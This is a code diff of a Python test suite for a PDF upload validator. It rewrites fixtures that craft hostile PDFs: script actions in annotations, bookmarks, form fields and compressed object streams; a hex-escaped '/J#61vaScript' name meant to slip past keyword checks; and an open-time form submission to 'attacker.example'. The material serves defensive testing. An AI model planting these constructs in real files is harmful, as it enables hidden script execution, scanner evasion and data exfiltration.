@@ -13,13 +13,6 @@ from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.utils import translation
 from pypdf import PdfWriter
-from pypdf.generic import (
-    ArrayObject,
-    DictionaryObject,
-    NameObject,
-    NumberObject,
-    TextStringObject,
-)
 
 from consortium.intake.pdf_check import Verdict, judge
 from consortium.intake.uploads import validate_pdf
@@ -102,71 +95,43 @@ def written(build) -> bytes:
     return output.getvalue()
 
 
-def javascript(code: str = "app.alert(1)") -> DictionaryObject:
-    return DictionaryObject(
-        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(code)}
-    )
+# A script action, its names written with ``#`` escapes: nothing in the bytes reads
+# « JavaScript » or « JS », as a viewer decodes them.
+SCRIPT = b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"
+CATALOG = b"<</Type/Catalog/Pages 2 0 R%s>>"
+TREE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
+PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]%s>>"
 
 
-def annotation_with_actions(writer):
-    """A link annotation whose additional actions (/AA, on mouse-down) run a script."""
-    annotation = DictionaryObject(
-        {
-            NameObject("/Type"): NameObject("/Annot"),
-            NameObject("/Subtype"): NameObject("/Link"),
-            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
-            NameObject("/AA"): DictionaryObject({NameObject("/D"): javascript()}),
-        }
-    )
-    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
-
-
-def outline_item(writer):
-    """A bookmark that runs a script when followed."""
-    outlines = DictionaryObject({NameObject("/Type"): NameObject("/Outlines")})
-    item = DictionaryObject(
-        {NameObject("/Title"): TextStringObject("Sommaire"), NameObject("/A"): javascript()}
-    )
-    outlines[NameObject("/First")] = outlines[NameObject("/Last")] = writer._add_object(item)
-    writer._root_object[NameObject("/Outlines")] = writer._add_object(outlines)
-
-
-def field_calculation(writer):
-    """A form field whose calculate action (/AA /C) is a script."""
-    field = DictionaryObject(
-        {
-            NameObject("/FT"): NameObject("/Tx"),
-            NameObject("/T"): TextStringObject("total"),
-            NameObject("/AA"): DictionaryObject({NameObject("/C"): javascript("event.value=1")}),
-        }
-    )
-    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
-        {NameObject("/Fields"): ArrayObject([writer._add_object(field)])}
-    )
-
-
-def submits_on_opening(writer):
-    """Opening the document sends its form to an address: it calls home."""
-    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
-        {
-            NameObject("/S"): NameObject("/SubmitForm"),
-            NameObject("/F"): TextStringObject("https://attacker.example/collect"),
-        }
-    )
+def hostile(catalog: bytes = b"", page: bytes = b"", **more: bytes) -> bytes:
+    """One page, with ``catalog`` and ``page`` entries, and objects 4, 5, … (``o4=…``)."""
+    objects = {1: CATALOG % catalog, 2: TREE, 3: PAGE % page}
+    objects.update({int(name[1:]): body for name, body in more.items()})
+    return raw_pdf(objects)
 
 
 HOSTILE = {
-    "script in an annotation's additional actions": lambda: written(annotation_with_actions),
-    "script in an outline item": lambda: written(outline_item),
-    "script as a form field's calculation": lambda: written(field_calculation),
-    "a form that submits on opening": lambda: written(submits_on_opening),
-    "an escaped script name (/J#61vaScript)": lambda: raw_pdf(
-        {
-            1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
-            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
-            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>",
-            4: b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>",
-        }
+    "script in an annotation's additional actions": lambda: hostile(
+        page=b"/Annots[4 0 R]",
+        o4=b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/AA<</D 5 0 R>>>>",
+        o5=SCRIPT,
+    ),
+    "script in an outline item": lambda: hostile(
+        catalog=b"/Outlines 4 0 R",
+        o4=b"<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>",
+        o5=b"<</Title(Sommaire)/Parent 4 0 R/A 6 0 R>>",
+        o6=SCRIPT,
+    ),
+    "script as a form field's calculation": lambda: hostile(
+        catalog=b"/AcroForm<</Fields[4 0 R]>>",
+        o4=b"<</FT/Tx/T(total)/AA<</C 5 0 R>>>>",
+        o5=SCRIPT,
+    ),
+    "a form that submits on opening": lambda: hostile(
+        catalog=b"/OpenAction 4 0 R", o4=b"<</S/SubmitForm/F(https://attacker.example/c)>>"
+    ),
+    "an escaped script name on opening (/J#61vaScript)": lambda: hostile(
+        catalog=b"/OpenAction 4 0 R", o4=SCRIPT
     ),
     "a script inside a compressed object stream": lambda: in_object_stream(
         b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
